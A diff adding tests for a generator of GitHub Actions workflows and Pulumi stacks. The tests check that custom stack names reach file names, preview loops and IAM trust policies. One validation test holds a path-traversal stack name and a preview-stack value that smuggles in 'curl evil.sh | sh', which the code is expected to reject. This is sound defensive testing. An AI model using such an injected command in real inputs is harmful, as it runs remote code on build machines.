@@ -814,6 +814,35 @@ describe("generated workflows", () => {
         }
     });
 
+    it("workflows name the real stack: a stack not named after its tier plans, previews and deploys itself; stack == tier keeps its files byte for byte", () => {
+        const named = (tier: string, stack: string) =>
+            settings(tier, { stack, previewStacks: github.deliveryFor(tier as "solo", "main", "staging", stack).previewStacks });
+        const dev = github.workflowFiles(named("solo", "myapp-dev"), true);
+        expect(Object.keys(dev).filter((f) => f.includes("deploy-"))).to.deep.equal([".github/workflows/deploy-myapp-dev.yml"]);
+        expect(parse(dev[".github/workflows/deploy-myapp-dev.yml"]).name).to.equal("deploy-myapp-dev");
+        const offline = parse(dev[".github/workflows/runway-preview.yml"]).jobs.plan.steps;
+        for (const step of offline.filter((s: any) => String(s.run).includes("runway-iac plan")))
+            expect(step.run, step.name)
+                .to.include("for stack in myapp-dev; do")
+                .and.not.match(/\bsolo\b/);
+        const real = jobsOf(dev[".github/workflows/runway-pulumi-preview.yml"])["pulumi-preview"];
+        expect(real.strategy.matrix.stack).to.deep.equal(["myapp-dev"]);
+        const comment = jobsOf(dev[".github/workflows/runway-preview-comment.yml"]).comment.steps.at(-1);
+        expect(comment.with).to.include({ header: "runway-preview-myapp-dev", path: "preview/myapp-dev.md" });
+        expect(parse(dev[".github/dependabot.yml"]).updates[0]["exclude-paths"]).to.include(".github/workflows/deploy-myapp-dev.yml");
+        // Two stacks of one tier in one repository never write one path.
+        const other = github.workflowFiles(named("solo", "myapp-demo"), false);
+        expect(Object.keys(other)).to.deep.equal([".github/workflows/deploy-myapp-demo.yml"]);
+        // A production stack named prod previews itself by name, and staging by its tier.
+        expect(github.deliveryFor("production", "main", "staging", "prod").previewStacks).to.deep.equal(["staging", "prod"]);
+        // Existing stacks named after their tier see no change: same paths, same content, same branch.
+        for (const tier of TIERS) {
+            const before = github.workflowFiles(settings(tier), true);
+            expect(github.workflowFiles(named(tier, tier), true), tier).to.deep.equal(before);
+            expect(github.workflowsBranch(tier, before)).to.match(new RegExp(`^runway/workflows-${tier}-[0-9a-f]{10}$`));
+        }
+    });
+
     it("generated workflows are runway-* files and names: a user's own ci.yml or a workflow named preview is never overwritten or mistaken", () => {
         for (const [file, content] of allFiles()) {
             const name = String(parse(content).name);
@@ -1361,6 +1390,17 @@ describe("github.Repository under the mock runtime", () => {
             () => new github.Repository("repo", { owner: "acme corp", repo: "shop", delivery: settings("production"), variables }),
             /Repository\(repo\)\.owner = "acme corp"[\s\S]*Repository\(repo\)\.reviewers = \[\]: at least one GitHub user/,
         );
+        // Stack names become file names, branch names and words of the preview workflow's shell loop.
+        await expectRejected(
+            () =>
+                new github.Repository("repo", {
+                    owner: "acme",
+                    repo: "shop",
+                    delivery: settings("solo", { stack: "../ci", previewStacks: ["dev; curl evil.sh | sh"] }),
+                    variables,
+                }),
+            /Repository\(repo\)\.delivery\.stack = "\.\.\/ci": Pulumi stack names[\s\S]*Repository\(repo\)\.delivery\.previewStacks = "dev; curl evil\.sh \| sh": Pulumi stack names/,
+        );
     });
 });
 
@@ -1397,6 +1437,34 @@ describe("how a Cloud Run deploy reaches its service (pure)", () => {
 
 describe("GitHub delivery in whole stacks", function () {
     this.timeout(60000);
+
+    it("a stack not named after its tier (aws-solo, as init names it) commits workflows that plan, preview and deploy aws-solo, and its deployer trusts that file", async () => {
+        // The plan tests/helpers/trust.ts's "aws solo" repository shares.
+        const { document } = await planStack("aws-solo", { "runway:githubReviewers": '["example-reviewer"]' });
+        const files = Object.fromEntries(
+            document.resources
+                .filter((r) => r.type === "github:index/repositoryFile:RepositoryFile")
+                .map((r) => [String(r.inputs.file), String(r.inputs.content)]),
+        );
+        expect(Object.keys(files).filter((f) => f.includes("/deploy-"))).to.deep.equal([".github/workflows/deploy-aws-solo.yml"]);
+        const plans = parse(files[".github/workflows/runway-preview.yml"])
+            .jobs.plan.steps.filter((s: any) => String(s.run).includes("runway-iac plan"))
+            .map((s: any) => String(s.run).match(/for stack in ([^;]*);/)![1]);
+        expect(plans).to.deep.equal(["aws-solo", "aws-solo"]);
+        const real = jobsOf(files[".github/workflows/runway-pulumi-preview.yml"])["pulumi-preview"];
+        expect(real.strategy.matrix.stack).to.deep.equal(["aws-solo"]);
+        expect(
+            document.resources.some(
+                (r) =>
+                    r.type === "github:index/repositoryEnvironment:RepositoryEnvironment" &&
+                    r.inputs.environment === "runway-preview-aws-solo",
+            ),
+        ).to.equal(true);
+        const deployer = document.resources.find((r) => r.type === "aws:iam/role:Role" && r.name === "ci-deploy-solo")!;
+        expect(String(deployer.inputs.assumeRolePolicy)).to.include(
+            "example-org/example-app/.github/workflows/deploy-aws-solo.yml@refs/heads/main",
+        );
+    });
 
     it("the deploy job's environment is what the production deployer trusts", async () => {
         const { document } = await planStack("production");
